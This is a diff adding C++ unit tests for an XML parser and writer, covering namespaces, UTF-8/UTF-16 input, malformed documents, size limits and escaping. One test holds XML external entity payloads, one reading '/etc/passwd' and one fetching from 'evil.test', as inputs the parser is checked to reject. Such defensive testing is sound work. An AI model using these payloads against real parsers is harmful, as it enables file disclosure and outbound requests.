@@ -1,0 +1,143 @@
+// SPDX-License-Identifier: Apache-2.0
+
+#include "codec/xml.h"
+
+#include <gtest/gtest.h>
+
+#include "base/strings.h"
+
+namespace autodiscover::codec {
+namespace {
+
+const XmlLimits kLimits = XmlLimits::From(Policy());
+
+Result<XmlElement> Read(std::string_view bytes) {
+  return ReadXml(bytes, kLimits);
+}
+
+std::string Utf16(std::string_view ascii, bool big_endian, bool mark) {
+  std::string bytes;
+  const auto put = [&](unsigned char high, unsigned char low) {
+    bytes.push_back(static_cast<char>(big_endian ? high : low));
+    bytes.push_back(static_cast<char>(big_endian ? low : high));
+  };
+  if (mark) {
+    put(0xFE, 0xFF);
+  }
+  for (const char c : ascii) {
+    put(0, static_cast<unsigned char>(c));
+  }
+  return bytes;
+}
+
+TEST(ReadXml, ResolvesNamespaces) {
+  const Result<XmlElement> root = Read(
+      "<p:a xmlns:p='urn:1' xmlns='urn:2'><b p:k='v'/>"
+      "<p:b xmlns:p='urn:3'/><q:b/><b xmlns=''/><p:b>x</p:b></p:a>");
+  ASSERT_TRUE(root);
+  EXPECT_EQ(root->name, "a");
+  EXPECT_EQ(root->name_space, "urn:1");
+  ASSERT_EQ(root->children.size(), 5U);
+  EXPECT_EQ(root->children[0].name_space, "urn:2");
+  EXPECT_EQ(root->children[0].Attribute("k"), "v");
+  EXPECT_EQ(root->children[1].name_space, "urn:3");
+  EXPECT_EQ(root->children[2].name_space, "");
+  EXPECT_EQ(root->children[3].name_space, "");
+  EXPECT_EQ(root->ChildText("urn:1", "b"), "x");
+}
+
+TEST(ReadXml, TakesEveryLawfulShape) {
+  const std::string body = "<a> x<!-- c --> y <![CDATA[<z>]]></a>";
+  const std::string declared = "<?xml version='1.0' encoding='utf-8'?>" + body;
+  for (const std::string& bytes :
+       {body, declared, "\xEF\xBB\xBF" + declared, "\r\n " + declared,
+        "\xEF\xBB\xBF" + body, "<!-- c -->" + body, declared + "\n",
+        Utf16("<?xml version='1.0' encoding='utf-16'?>" + body, true, true),
+        Utf16("<?xml version='1.0' encoding='utf-16'?>" + body, false, true),
+        Utf16("<?xml version='1.0' encoding='utf-16'?>" + body, false,
+              false)}) {
+    const Result<XmlElement> root = Read(bytes);
+    ASSERT_TRUE(root) << bytes << ": " << root.error().message;
+    EXPECT_EQ(Trim(root->text), "x y <z>");
+  }
+}
+
+TEST(ReadXml, DecodesOnce) {
+  EXPECT_EQ(Read("<a>&lt;IsOWA&gt; &amp;lt; &#xF6;</a>")->text,
+            "<IsOWA> &lt; \xC3\xB6");
+}
+
+TEST(ReadXml, GivesUtf8WhateverComes) {
+  EXPECT_EQ(Read("<a>J\xF6rg</a>")->text, "J\xEF\xBF\xBDrg");
+}
+
+// Fails if a document type gets through, whatever is in it (SEC-01).
+TEST(ReadXml, RefusesDocumentTypes) {
+  for (const char* dtd :
+       {"<!DOCTYPE a>", "<!DOCTYPE a SYSTEM 'file:///etc/passwd'>",
+        "<!DOCTYPE a [<!ENTITY b 'c'>]>",
+        "<!DOCTYPE a [<!ENTITY % p SYSTEM "
+        "'http://evil.test/'> %p;]>"}) {
+    EXPECT_FALSE(Read(StrCat(dtd, "<a>&b;</a>"))) << dtd;
+    EXPECT_FALSE(Read(StrCat("<?xml version='1.0'?>\n", dtd, "<a/>"))) << dtd;
+    EXPECT_FALSE(Read(StrCat("<a>", dtd, "</a>"))) << dtd;
+    EXPECT_FALSE(Read(StrCat("<a/>", dtd))) << dtd;
+  }
+}
+
+TEST(ReadXml, RefusesWhatIsBroken) {
+  for (const char* text :
+       {"", " ", "text", "<a>", "<a", "<a></b>", "<a/><b/>", "<a b=c/>",
+        "<a b='1' ", "</a>", "<?xml", "<!--", "<a/>trailing", "leading<a/>"}) {
+    EXPECT_FALSE(Read(text)) << text;
+  }
+  EXPECT_FALSE(Read(std::string_view("<a/>\0<b/>", 9)));
+}
+
+TEST(ReadXml, KeepsItsBounds) {
+  std::string deep;
+  for (int i = 0; i < 65; ++i) {
+    deep.append("<a>");
+  }
+  std::string shallow = deep.substr(3);
+  for (int i = 0; i < 65; ++i) {
+    deep.append("</a>");
+    shallow.append(i > 0 ? "</a>" : "");
+  }
+  EXPECT_FALSE(Read(deep));
+  EXPECT_TRUE(Read(shallow));
+
+  std::string many = "<a>";
+  for (int i = 0; i < 20'000; ++i) {
+    many.append("<b/>");
+  }
+  EXPECT_FALSE(Read(many + "</a>"));
+
+  std::string attributes = "<a";
+  for (int i = 0; i < 20'000; ++i) {
+    attributes.append(StrCat(" b", i, "=''"));
+  }
+  EXPECT_FALSE(Read(attributes + "/>"));
+  EXPECT_FALSE(
+      ReadXml("<aaaa/>", {.bytes_max = 6, .depth_max = 9, .nodes_max = 9}));
+}
+
+// Fails if text is pasted into markup (IN-06).
+TEST(WriteXml, EscapesText) {
+  const std::string nasty = "a&b'<x>\"@corp.test]]>";
+  const std::string written =
+      WriteXml({.name = "a",
+                .attributes = {{"k", nasty}},
+                .children = {{.name = "b", .text = nasty}, {.name = "c"}}});
+  EXPECT_TRUE(written.starts_with("<?xml version=\"1.0\" encoding=\"utf-8\"?>"))
+      << written;
+  const Result<XmlElement> root = Read(written);
+  ASSERT_TRUE(root);
+  EXPECT_EQ(root->Attribute("k"), nasty);
+  ASSERT_EQ(root->children.size(), 2U);
+  EXPECT_EQ(root->children[0].text, nasty);
+  EXPECT_TRUE(root->children[0].children.empty());
+}
+
+}  // namespace
+}  // namespace autodiscover::codec
